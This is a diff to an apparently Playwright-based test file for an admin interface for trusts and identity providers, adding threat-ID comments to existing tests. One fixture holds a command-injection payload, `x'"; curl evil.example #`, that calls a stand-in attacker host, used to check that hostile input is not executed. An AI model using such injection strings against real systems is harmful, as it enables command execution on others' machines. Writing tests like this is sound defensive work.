@@ -174,6 +174,7 @@ describe('a trust', () => {
     await page.getByRole('heading', { name: 'Identity providers' }).waitFor()
   })
 
+  // threat: trusts-4
   test('is not deleted if another one has taken its name', async ({ openPage, server }) => {
     await makeTrust(server, 'remade')
     const page = await visit(openPage, server.adminKey, '#/trusts/credentials/remade')
@@ -243,6 +244,7 @@ describe('a person', () => {
 })
 
 describe('texts of others', () => {
+  // threat: trusts-1
   test('neither run nor break the pages, and no job is written with them', async ({ openPage, server }) => {
     const audience = `x'"; curl evil.example #`
     const issuer = 'https://hostile.example.com'
